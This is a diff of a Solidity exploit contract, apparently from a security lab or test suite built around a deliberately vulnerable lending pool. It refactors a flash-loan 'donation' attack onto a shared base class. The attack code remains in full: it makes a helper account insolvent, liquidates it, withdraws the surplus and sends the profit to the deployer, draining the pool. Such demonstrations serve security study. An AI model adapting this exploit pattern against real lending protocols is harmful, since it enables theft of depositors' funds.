@@ -2,8 +2,8 @@
 pragma solidity 0.8.30;
 
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
-import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
 import {FlashLoanPool} from "../FlashLoanPool.sol";
+import {FlashLoanAttack} from "./FlashLoanAttack.sol";
 import {DonationLendingPool} from "../vulnerable/DonationLendingPool.sol";
 
 /// @title DonationViolator — the account the DonationAttack makes insolvent
@@ -43,38 +43,20 @@ contract DonationViolator {
 /// `burn`, withdraw the surplus deposit, repay the loan and send the profit
 /// (~60% of the loan per round) to the deployer. Repeating it drains the pool
 /// in a few transactions. While the pool is paused every round reverts.
-contract DonationAttack is IERC3156FlashBorrower {
-    bytes32 private constant CALLBACK_SUCCESS = keccak256("ERC3156FlashBorrower.onFlashLoan");
-
-    address public immutable owner;
+contract DonationAttack is FlashLoanAttack {
     DonationLendingPool public immutable pool;
-    FlashLoanPool public immutable flashLender;
-    uint256 public immutable loanAmount;
 
-    error NotFlashLender(address caller);
-    error NoProfit();
-
-    constructor(DonationLendingPool pool_, FlashLoanPool flashLender_, uint256 loanAmount_) {
-        owner = msg.sender;
-        pool = pool_;
-        flashLender = flashLender_;
-        loanAmount = loanAmount_;
-    }
-
-    function attack() external returns (uint256 profit) {
-        IERC20 asset = pool.asset();
-        flashLender.flashLoan(this, address(asset), loanAmount, "");
-        profit = asset.balanceOf(address(this));
-        if (profit == 0) revert NoProfit();
-        asset.transfer(owner, profit);
-    }
-
-    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata)
-        external
-        override
-        returns (bytes32)
+    constructor(DonationLendingPool pool_, FlashLoanPool flashLender_, uint256 loanAmount_)
+        FlashLoanAttack(flashLender_, loanAmount_)
     {
-        if (msg.sender != address(flashLender) || initiator != address(this)) revert NotFlashLender(msg.sender);
+        pool = pool_;
+    }
+
+    function _loanToken() internal view override returns (IERC20) {
+        return pool.asset();
+    }
+
+    function _exploit(address token, uint256 amount) internal override {
         DonationViolator violator = new DonationViolator(pool);
         IERC20(token).transfer(address(violator), amount);
         violator.leverAndDonate(amount);
@@ -82,8 +64,5 @@ contract DonationAttack is IERC3156FlashBorrower {
         pool.liquidate(address(violator), type(uint256).max);
         pool.burn(pool.debtOf(address(this)));
         pool.withdraw(pool.depositOf(address(this)));
-
-        IERC20(token).approve(address(flashLender), amount + fee);
-        return CALLBACK_SUCCESS;
     }
 }
